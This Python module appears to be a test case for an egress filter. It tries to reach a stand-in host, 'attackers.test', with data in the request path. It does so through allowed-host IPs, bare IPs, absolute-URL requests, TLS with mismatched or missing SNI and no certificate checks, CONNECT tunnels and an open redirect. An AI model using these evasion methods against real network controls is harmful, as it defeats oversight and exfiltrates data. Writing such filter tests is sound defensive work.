"""B03: show one name and speak to another: by the address of an allowed host, by an address that has no
name, in a tunnel, by a URL in place of a path, by a redirect.
"""

import socket
import ssl
import urllib.request

LIMIT = 10
ARRIVED = "HTTP/1.1 200 OK"
NOWHERE = "203.0.113.7"
"""An address that nobody has asked a name for (RFC 5737)."""


def attack(hands):
    fronts(hands, "open.test", "attackers.test", hands.plain())


def twin(hands):
    fronts(hands, "kept.test", "kept.test", hands.secret())


def fronts(hands, front, host, text):
    """Say it to `host` by every way that shows another name, or none, before."""
    ask = f"GET /{text} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    asked = f"GET http://{host}/{text} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    address = socket.gethostbyname(front)
    for way, said in (
        ("by the address of another", lambda: plainly(address, 80, ask)),
        ("by an address that has no name", lambda: plainly(NOWHERE, 80, ask)),
        ("by a URL in place of a path", lambda: plainly(address, 80, asked)),
        ("in TLS that names nobody", lambda: secretly(connected(address, 443), None, ask)),
        ("in TLS at another's address", lambda: secretly(connected(address, 443), host, ask)),
        ("in a tunnel to an address", lambda: secretly(tunnelled(address, f"{NOWHERE}:443"), host, ask)),
    ):
        try:
            told = said().partition(b"\r\n")[0].decode()
        except OSError as error:
            told = repr(error)
        hands.statuses.append((way, told))
    try:
        urllib.request.urlopen(f"https://{front}/?redirect=https://{host}/{text}", timeout=LIMIT).read()
        told = ARRIVED
    except OSError as error:
        told = repr(error)
    hands.statuses.append(("by a redirect", told))


def connected(address, port):
    """A connection."""
    return socket.create_connection((address, port), timeout=LIMIT)


def tunnelled(address, target):
    """A connection through whatever takes CONNECT at an address."""
    made = connected(address, 80)
    made.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    made.recv(1000)
    return made


def plainly(address, port, text):
    """Say it, and what comes back."""
    with connected(address, port) as stream:
        return exchanged(stream, text)


def secretly(stream, name, text):
    """Say it within TLS that asks for this name, or for none."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(stream, server_hostname=name) as inner:
        return exchanged(inner, text)


def exchanged(stream, text):
    """Send, and receive to the end."""
    stream.sendall(text.encode())
    return b"".join(iter(lambda: stream.recv(65536), b""))
